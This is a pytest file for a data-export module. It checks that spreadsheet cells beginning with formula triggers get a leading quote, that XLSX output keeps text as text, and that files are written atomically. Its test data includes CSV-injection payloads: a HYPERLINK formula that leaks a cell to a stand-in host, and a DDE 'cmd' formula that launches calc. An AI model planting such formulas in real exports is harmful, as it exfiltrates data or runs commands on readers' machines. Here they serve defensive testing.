"""Written files are safe to open in a spreadsheet and appear whole or not at all."""

from __future__ import annotations

import errno
import tempfile
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from openpyxl import load_workbook

from data.io import (
    DataFileError,
    atomic_outputs,
    neutralised_text,
    read_table,
    write_table,
    write_table_to,
)

FORMULAS = ['=HYPERLINK("http://x/?leak="&B2,"click")', "=cmd|' /C calc'!A0", "+1", "@SUM(A1)"]
TABLE = pd.DataFrame(
    {
        "msme_id": [*FORMULAS, "-2+3", "\t=1", "H7"],
        "uplift": [-0.05, 0.1, -1.0, 0.0, 0.2, 0.3, 0.4],
    }
)


def test_csv_text_cells_starting_a_formula_get_a_quote_numbers_stay(tmp_path: Path) -> None:
    text = write_table(TABLE, tmp_path / "out.csv").read_text()

    back = pd.read_csv(tmp_path / "out.csv", dtype={"msme_id": str})
    assert back["msme_id"].tolist()[:6] == ["'" + value for value in [*FORMULAS, "-2+3", "\t=1"]]
    assert back["msme_id"].iloc[6] == "H7"
    assert back["uplift"].tolist() == TABLE["uplift"].tolist()  # -0.05 stays a number
    assert "\n-0.05" not in text and ",-0.05" in text


def test_every_owasp_trigger_gets_the_quote() -> None:
    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralised_text(f"{trigger}1+1") == f"'{trigger}1+1"
    assert neutralised_text("H-1") == "H-1"


def test_xlsx_text_cells_are_text_never_formulas(tmp_path: Path) -> None:
    write_table(TABLE, tmp_path / "out.xlsx")

    sheet = load_workbook(tmp_path / "out.xlsx").active
    assert sheet is not None
    ids = [sheet.cell(row, 1) for row in range(2, 9)]
    assert [cell.data_type for cell in ids] == ["s"] * 7
    assert [cell.value for cell in ids][:4] == FORMULAS
    assert [sheet.cell(row, 2).value for row in range(2, 9)] == TABLE["uplift"].tolist()
    assert sheet.cell(2, 2).data_type == "n"


def test_xlsx_cannot_hold_control_characters_so_they_are_replaced_not_fatal(
    tmp_path: Path,
) -> None:
    write_table(pd.DataFrame({"note": ["a\x01b"]}), tmp_path / "q.xlsx")

    assert read_table(tmp_path / "q.xlsx")["note"].tolist() == ["a\ufffdb"]


def _full_disk_after(half: int) -> Any:
    """`DataFrame.to_csv` that writes `half` bytes, then fails as a full disk does."""

    def to_csv(self: pd.DataFrame, path: Path, **options: Any) -> None:
        with Path(path).open("w") as handle:
            handle.write("x" * half)
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    return to_csv


def test_a_full_disk_leaves_no_partial_file_and_says_so_in_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = write_table(TABLE, tmp_path / "scores.csv")
    before = target.read_bytes()
    monkeypatch.setattr(pd.DataFrame, "to_csv", _full_disk_after(100))

    with pytest.raises(DataFileError) as failed:
        write_table(TABLE.iloc[:2], target)

    assert str(failed.value) == (
        f"{target}: cannot write: no space left on the device; free some space or write "
        "elsewhere (nothing was written)"
    )
    assert target.read_bytes() == before  # the previous, complete file is untouched
    assert sorted(path.name for path in tmp_path.iterdir()) == ["scores.csv"]


def test_a_read_only_folder_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Tests run as root here, for whom no folder is read-only: the file system's answer is played.
    def read_only(**_: Any) -> Any:
        raise OSError(errno.EROFS, "Read-only file system", str(tmp_path))

    monkeypatch.setattr(tempfile, "mkstemp", read_only)

    with pytest.raises(DataFileError, match="read-only file system; write elsewhere"):
        write_table(TABLE, tmp_path / "out.csv")
    assert list(tmp_path.iterdir()) == []


def test_a_pair_appears_together_or_not_at_all(tmp_path: Path) -> None:
    listed, rest = tmp_path / "list.csv", tmp_path / "list_not_selected.csv"

    with (
        pytest.raises(DataFileError, match="no space left"),
        atomic_outputs([listed, rest]) as (listed_file, rest_file),
    ):
        write_table_to(TABLE, listed_file, "csv")
        assert listed_file.parent == tmp_path  # beside the target: a rename, not a copy
        rest_file.write_text("half a fi")
        raise OSError(errno.ENOSPC, "No space left on device", str(rest_file))

    assert list(tmp_path.iterdir()) == []

    with atomic_outputs([listed, rest]) as (listed_file, rest_file):
        write_table_to(TABLE, listed_file, "csv")
        write_table_to(TABLE, rest_file, "csv")
    assert sorted(path.name for path in tmp_path.iterdir()) == [listed.name, rest.name]
